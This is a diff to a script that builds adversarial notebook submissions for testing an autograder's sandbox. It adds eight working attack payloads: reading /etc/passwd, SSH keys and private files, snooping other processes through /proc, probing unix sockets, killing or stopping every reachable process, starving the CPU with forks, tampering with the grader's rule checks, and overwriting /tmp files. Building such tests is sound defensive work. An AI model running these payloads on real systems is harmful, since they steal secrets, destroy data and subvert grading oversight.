@@ -28,6 +28,12 @@ SOLUTION = ROOT / "solutions" / "conv-math" / "conv-math.ipynb"
 
 # Strings planted in the grader side; the attacks try to get them out.
 VICTIM_MARKER = "VICTIM-NOTEBOOK-MARKER-4c1e9b"
+# Files the tests plant outside the sandbox's world before grading (tests/test_adversarial.py).
+PLANTED_MARKER = "PLANTED-WORLD-READABLE-7a3f0c"  # in /var/tmp/conv-grader-planted.txt, mode 644
+PRIVATE_MARKER = "TA-PRIVATE-FILE-2e8d41"  # in ~/.conv-grader-private of whoever grades, mode 600
+ZIP_MARKER = "GRADESCOPE-ZIP-MARKER-91b6d5"  # in <checkout>/dist/conv-grader-planted-autograder.zip
+SHM_MARKER = "SYSV-SHARED-MEMORY-5c77e2"
+ABSTRACT_SOCKET = "conv-grader-host-socket"
 ENV_CANARY = "conv-grader-canary-9d2f71"
 NET_PORT = 47913
 
@@ -350,6 +356,117 @@ attack("27_cell_breaks_sandbox", "After a correct notebook, chdir to /, remove t
            "sys.stdout = sys.stderr = Broken()\nos.close(0)\n",
        ])
 
+LOOK_EVERYWHERE = r'''
+import glob, os, zipfile
+def look_everywhere():
+    found = []
+    patterns = ["/var/tmp/conv-grader-planted*", "/srv/**", "/opt/**/*.txt", "/home/*/.conv-grader-private",
+                "/root/.conv-grader-private", os.path.expanduser("~/.conv-grader-private"), "/home/**/.ssh/*",
+                "/*/dist/*.zip", "/*/*/dist/*.zip", "/*/*/*/dist/*.zip", "/*/*/*/*/dist/*.zip", "/tmp/**/dist/*.zip",
+                "/work/**/*.zip", "/etc/*.txt", "/etc/passwd", "/etc/hostname", "/proc/1/root/var/tmp/*",
+                "/proc/*/cwd/dist/*.zip", "/proc/*/root/var/tmp/conv-grader-planted*"]
+    for pattern in patterns:
+        try:
+            paths = glob.glob(pattern, recursive=True)[:100]
+        except Exception:
+            continue
+        for path in paths:
+            try:
+                if path.endswith(".zip"):
+                    with zipfile.ZipFile(path) as archive:
+                        found += [archive.read(n).decode("latin-1")[:2000] for n in archive.namelist()[:50]]
+                elif os.path.isfile(path):
+                    with open(path, errors="replace") as handle:
+                        found.append(path + ": " + handle.read(2000))
+            except Exception as error:
+                found.append(f"{path}: {type(error).__name__}")
+    return "\n".join(found)
+'''
+
+attack("28_planted_files", "Read files outside the project: a world-readable file planted in /var/tmp, the grading user's own private file in their home, the Gradescope zip in the checkout's dist/, and whatever /srv, /opt, /home and /etc hold.",
+       "blank", [
+           LOOK_EVERYWHERE + "\nprint(look_everywhere())\n",
+           every_function("    raise RuntimeError(look_everywhere()[-490:])") + "\nequivariant_layers = look_everywhere()\n",
+       ], [PLANTED_MARKER, PRIVATE_MARKER, ZIP_MARKER])
+
+attack("29_proc_snoop", "Read the grader's command line, environment, open files and memory map through /proc, and /proc/1 (the grader's init), and walk /proc/*/root and /proc/*/cwd.",
+       "blank", [
+           "import os\ndef snoop():\n    found = []\n"
+           "    for pid in sorted(p for p in os.listdir('/proc') if p.isdigit()) + ['1', str(os.getppid())]:\n"
+           "        for name in ('cmdline', 'environ', 'maps', 'status'):\n            try:\n"
+           "                with open(f'/proc/{pid}/{name}', 'rb') as handle:\n"
+           "                    found.append(f'{pid}/{name}: ' + handle.read(3000).replace(b'\\0', b' ').decode('latin-1'))\n"
+           "            except Exception:\n                pass\n"
+           "        for link in ('cwd', 'root', 'exe'):\n            try:\n                found.append(f'{pid}/{link} -> ' + os.readlink(f'/proc/{pid}/{link}'))\n"
+           "            except Exception:\n                pass\n"
+           "        try:\n            found.append(' '.join(os.listdir(f'/proc/{pid}/cwd'))[:500])\n        except Exception:\n            pass\n"
+           "    return '\\n'.join(found)\nprint(snoop())\n",
+           every_function("    raise RuntimeError(snoop()[-490:])") + "\nequivariant_layers = snoop()\n",
+       ], [ENV_CANARY, "pytest"])
+
+attack("30_abstract_socket", f"Connect to an abstract unix socket that a process of the grader's machine holds open (@{ABSTRACT_SOCKET}) and to every abstract socket listed in /proc/net/unix, and send to them.",
+       "blank", [
+           "import socket\ndef knock():\n    names = ['\\0" + ABSTRACT_SOCKET + "']\n"
+           "    try:\n        names += ['\\0' + line.split()[-1][1:] for line in open('/proc/net/unix') if line.split()[-1].startswith('@')]\n"
+           "    except Exception:\n        pass\n    notes = []\n"
+           "    for name in names[:200]:\n        try:\n            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
+           "            s.settimeout(0.5)\n            s.connect(name)\n            s.sendall(b'PWNED')\n            notes.append('CONNECTED ' + repr(name))\n"
+           "        except Exception as error:\n            notes.append(f'no {name!r}: {type(error).__name__}')\n    return notes\nprint(knock())\n",
+       ], ["CONNECTED"])
+
+attack("31_sysv_shm", "Leave SysV shared memory, a message queue and a semaphore set with fixed keys holding a marker, and read them if an earlier submission left them (the test grades it twice in the same slot).",
+       "blank", [
+           "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nlibc.shmat.restype = ctypes.c_void_p\nKEY = 0x5C77E2\nnotes = []\n"
+           "shmid = libc.shmget(KEY, 4096, 0o666)\n"
+           "if shmid >= 0:\n    address = libc.shmat(shmid, None, 0)\n    notes.append('FOUND ' + ctypes.string_at(address, 64).decode('latin-1'))\n"
+           "else:\n    shmid = libc.shmget(KEY, 4096, 0o1000 | 0o666)\n    notes.append(f'shmget: {shmid} errno {ctypes.get_errno()}')\n"
+           "    if shmid >= 0:\n        address = libc.shmat(shmid, None, 0)\n        ctypes.memmove(address, b'" + SHM_MARKER + "', " + str(len(SHM_MARKER)) + ")\n"
+           "notes.append(f'msgget: {libc.msgget(KEY, 0o1000 | 0o666)} semget: {libc.semget(KEY, 1, 0o1000 | 0o666)}')\n"
+           "print(notes)\n",
+           every_function("    raise RuntimeError(repr(notes))"),
+       ], ["FOUND " + SHM_MARKER])
+
+attack("32_signals", "Send SIGSTOP and SIGKILL to every process it can name (the grader, the fork server, a submission graded at the same time) and to process group -1.",
+       "blank", [
+           "import os, signal\nhits = []\n"
+           "for pid in [os.getppid(), 1] + list(range(2, 5000)):\n    if pid == os.getpid():\n        continue\n"
+           "    for sig in (signal.SIGSTOP, signal.SIGKILL):\n        try:\n            os.kill(pid, sig)\n            hits.append(pid)\n        except Exception:\n            pass\n"
+           "try:\n    os.kill(-1, signal.SIGKILL)\nexcept Exception:\n    pass\nprint('signalled', sorted(set(hits))[:50])\n",
+       ], [], concurrent=True)
+
+attack("33_cpu_starve", "Start as many CPU-spinning children as the process limit allows, in new sessions if it can, then keep the slot busy, to make a submission graded at the same time miss its deadline.",
+       "blank", [
+           "import os, time\nchildren = 0\n"
+           "for _ in range(200):\n    try:\n        pid = os.fork()\n    except OSError:\n        break\n"
+           "    if pid == 0:\n        try:\n            os.setsid()\n        except OSError:\n            pass\n"
+           "        end = time.time() + 30\n        while time.time() < end:\n            pass\n        os._exit(0)\n    children += 1\n"
+           "print('spinning children:', children)\ntime.sleep(8)\n",
+       ], [], concurrent=True, max_seconds=75)
+
+attack("34_engine_edit", "After a correct notebook, rewrite the engine's code in its own process: put numpy.convolve back from anywhere it can be found, switch off the modified-input report, and replace the functions that watch rules, then use np.convolve in conv1d.",
+       "solution", [
+           "import gc, sys, numpy as np\nfound = None\n"
+           "for obj in gc.get_objects():\n    try:\n"
+           "        if callable(obj) and getattr(obj, '__name__', '') in ('convolve', 'correlate', 'correlate2') and 'numpy' in str(getattr(obj, '__module__', '')):\n"
+           "            found = found or obj\n    except Exception:\n        pass\n"
+           "for name, module in list(sys.modules.items()):\n    if name.startswith('autograder'):\n"
+           "        for attr in list(vars(module)):\n            if attr.startswith(('remove_forbidden', '_side_effects', '_Unavailable', '_unavailable')):\n"
+           "                setattr(module, attr, lambda *a, **k: {'modified': []})\n"
+           "if found is not None:\n    np.convolve = found\n"
+           "def conv1d(f, g):\n    return np.convolve(f, g)\n",
+       ])
+
+attack("35_leftover_hunter", "Leave a process behind that waits for the next submission in the same slot and kills, stops or overwrites everything it can find for ten seconds.",
+       "blank", [
+           "import os, signal, time, glob\n"
+           "if os.fork() == 0:\n    try:\n        os.setsid()\n    except OSError:\n        pass\n"
+           "    if os.fork() == 0:\n        signal.signal(signal.SIGHUP, signal.SIG_IGN)\n        signal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
+           "        end = time.time() + 10\n        while time.time() < end:\n"
+           "            for pid in range(2, 3000):\n                try:\n                    os.kill(pid, signal.SIGSTOP)\n                except Exception:\n                    pass\n"
+           "            for path in glob.glob('/tmp/**', recursive=True)[:200]:\n                try:\n                    open(path, 'w').write('junk')\n                except Exception:\n                    pass\n"
+           "            time.sleep(0.05)\n        os._exit(0)\n    os._exit(0)\n",
+       ], [])
+
 
 def _symlinks() -> dict[str, tuple[str, str]]:
     return {
@@ -380,7 +497,9 @@ def build(points: float) -> None:
             old.unlink()
     bases = {"blank": nbformat.read(BLANK, as_version=4), "solution": nbformat.read(SOLUTION, as_version=4)}
     lines = ["# Adversarial submissions: built by tests/submissions/make_adversarial.py, do not edit by hand.",
-             f'victim_marker = "{VICTIM_MARKER}"', f'env_canary = "{ENV_CANARY}"', f"net_port = {NET_PORT}", ""]
+             f'victim_marker = "{VICTIM_MARKER}"', f'env_canary = "{ENV_CANARY}"', f"net_port = {NET_PORT}",
+             f'planted_marker = "{PLANTED_MARKER}"', f'private_marker = "{PRIVATE_MARKER}"', f'zip_marker = "{ZIP_MARKER}"',
+             f'abstract_socket = "{ABSTRACT_SOCKET}"', ""]
     for name, (sentence, base, cells, leak, extra) in ATTACKS.items():
         nb = nbformat.from_dict(json.loads(json.dumps(bases[base])))
         for source in cells:
